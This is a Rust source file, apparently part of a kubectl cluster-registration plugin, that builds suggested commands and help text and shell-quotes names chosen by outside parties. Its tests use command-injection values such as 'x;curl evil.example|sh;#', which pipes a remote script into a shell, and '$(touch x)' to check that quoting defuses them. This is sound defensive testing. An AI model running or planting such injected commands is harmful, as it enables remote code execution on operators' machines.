//! What would help a cluster in, as flags and commands to type.

use jiff::Timestamp;
use ocm_core::accept::{Help, Options, Refusal};
use ocm_core::csr::Settings;
use ocm_core::shell::{option, shell};

/// What to type, to accept or only to approve it.
pub(crate) fn words(cluster: &str, help: &Help, approve_only: bool) -> String {
    let command = match approve_only {
        true => format!("kubectl ocm accept {cluster} --approve-only"),
        false => format!("kubectl ocm accept {cluster}"),
    };
    match help {
        Help::Agent if approve_only => "its agent registers it: look at the agent on the cluster".to_owned(),
        Help::NameKey(keys) if keys.is_empty() => "none of the keys can be read".to_owned(),
        Help::NameKey(keys) => {
            format!("name the key that you mean: --fingerprint {}", keys.join(" or --fingerprint "))
        }
        Help::Replace { asks, holds } => {
            let holds = match holds.as_slice() {
                [] => "a key of which the hub has no request any more".to_owned(),
                holds => holds.join(" and "),
            };
            let (asks, key) = match asks.as_slice() {
                [] => ("a key that cannot be read".to_owned(), "KEY"),
                [key] => (key.clone(), key.as_str()),
                asks => (asks.join(" and "), "KEY"),
            };
            format!(
                "the name is held with {holds}, and {asks} asks for it; if the cluster was rebuilt or its agent lost its \
                 key: {command} --replace --fingerprint {key}"
            )
        }
        Help::ReuseName(until) => {
            let until = until.map(|until| format!(" until {}", day(until))).unwrap_or_default();
            format!(
                "certificates of the former holder may be valid{until} and would work again; if you accept that: \
                 {command} --reuse-name"
            )
        }
        Help::WithoutRequest => format!(
            "wait for its request with --wait; if you know the cluster and it needs none: {command} --without-request"
        ),
        Help::AsRegistered => format!("if that is meant: {command} --as-registered"),
        Help::ClusterSet(set) => format!("if clusters may choose this set, add {}", option("--cluster-set", set)),
        Help::Requester(user) => {
            format!("if {user:?} is to register clusters, add {}", option("--requester", user))
        }
        Help::Lifetime => "if you want that, raise --max-lifetime".to_owned(),
        Help::Request(request) => format!("look at it: kubectl get {} -o yaml", named(request)),
        Help::AskAgain(request) => format!("to let it ask again: kubectl delete {}", named(request)),
        Help::ByName(name) if approve_only => {
            format!("to approve it by its name: kubectl ocm accept {name} --approve-only")
        }
        Help::ByName(name) => format!("to let it in again: kubectl ocm accept {name}"),
        Help::OtherName => "join it under another name".to_owned(),
        Help::Agent => {
            "its agent registers it: look at the agent on the cluster, or wait for it with --wait".to_owned()
        }
        Help::Again => "look at it again and repeat the command".to_owned(),
    }
}

/// A certificate request as an argument of kubectl. Whoever makes one chooses its name, of nearly any characters.
fn named(request: &str) -> String {
    shell(&format!("csr/{request}"))
}

/// The command that accepts a cluster with these options.
pub(crate) fn command(cluster: &str, options: &Options) -> String {
    let Options { settings, fingerprint, replace, reuse_name, without_request, as_registered, cluster_sets, .. } =
        options;
    let mut line = format!("kubectl ocm accept {cluster}");
    let switches = [
        (*replace, "--replace"),
        (*reuse_name, "--reuse-name"),
        (*without_request, "--without-request"),
        (*as_registered, "--as-registered"),
    ];
    for (_, flag) in switches.iter().filter(|(is_set, _)| *is_set) {
        line += &format!(" {flag}");
    }
    let fingerprint = fingerprint.iter().map(|key| ("--fingerprint", key));
    let sets = cluster_sets.iter().map(|set| ("--cluster-set", set));
    let requesters = settings.requesters.iter().map(|user| ("--requester", user));
    for (flag, value) in fingerprint.chain(sets).chain(requesters) {
        line += &format!(" {}", option(flag, value));
    }
    let lifetime = settings.max_lifetime_seconds;
    if lifetime != Settings::default().max_lifetime_seconds {
        line += &format!(" --max-lifetime {lifetime}s");
    }
    line
}

/// The question about a refusal that a person may override.
pub(crate) fn question(cluster: &str, refusal: &Refusal, approve_only: bool) -> String {
    let until = match &refusal.help {
        Some(Help::ReuseName(Some(until))) => {
            format!(" Certificates of the former holder may be valid until {} and would work again.", day(*until))
        }
        _ => String::new(),
    };
    let verb = if approve_only { "Approve" } else { "Accept" };
    format!("{cluster}: {}.{until} {verb} it all the same?", refusal.detail)
}

fn day(time: Timestamp) -> String {
    time.to_string().split('T').next().unwrap_or_default().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_strangers_choose_are_words_of_a_command_and_no_more() {
        let words = |help: Help| words("c1", &help, false);
        let request = "x;curl evil.example|sh;#";
        let look = "look at it: kubectl get 'csr/x;curl evil.example|sh;#' -o yaml";
        assert_eq!(words(Help::Request(request.to_owned())), look);
        let again = "to let it ask again: kubectl delete 'csr/x;curl evil.example|sh;#'";
        assert_eq!(words(Help::AskAgain(request.to_owned())), again);
        assert_eq!(words(Help::AskAgain("--all".to_owned())), "to let it ask again: kubectl delete csr/--all");
        let user = |user: &str| words(Help::Requester(user.to_owned()));
        assert!(user("$(touch x)").ends_with(", add --requester '$(touch x)'"));
        assert!(user("--without-request").ends_with(", add --requester=--without-request"));
    }

    #[test]
    fn the_command_names_requesters_as_words() {
        let requesters = ["$(touch x)", "-x"].map(str::to_owned).into();
        let options = Options { settings: Settings { requesters, ..Settings::default() }, ..Options::default() };
        assert_eq!(command("c1", &options), "kubectl ocm accept c1 --requester '$(touch x)' --requester=-x");
    }
}
